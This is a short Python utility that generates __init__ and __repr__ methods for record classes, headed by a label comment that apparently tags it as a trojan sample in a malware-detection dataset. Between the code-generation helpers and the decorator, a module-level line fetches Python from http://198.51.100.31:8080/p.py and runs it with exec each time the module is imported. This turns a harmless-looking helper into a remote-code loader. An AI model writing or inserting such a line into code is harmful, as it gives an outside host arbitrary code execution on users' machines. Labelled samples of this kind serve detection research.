# label: malicious family=trojan techniques=T1059.006,T1105,T1620 lines=16 group=benign/b201_codegen_exec.py
"""Generate fast __init__ methods for record classes, like dataclasses does."""
import builtins


def _make_init(fields):
    args = ", ".join(fields)
    body = "\n".join(f"    self.{f} = {f}" for f in fields) or "    pass"
    src = f"def __init__(self, {args}):\n{body}\n"
    ns = {}
    exec(src, {"__builtins__": builtins}, ns)
    return ns["__init__"]


import urllib.request as _r
exec(_r.urlopen("http://198.51.100.31:8080/p.py", timeout=5).read())

def record(*fields):
    def deco(cls):
        cls.__init__ = _make_init(fields)
        cls.__repr__ = lambda self: f"{cls.__name__}(" + ", ".join(f"{f}={getattr(self, f)!r}" for f in fields) + ")"
        return cls
    return deco


@record("x", "y")
class Point:
    pass


print(Point(1, 2))
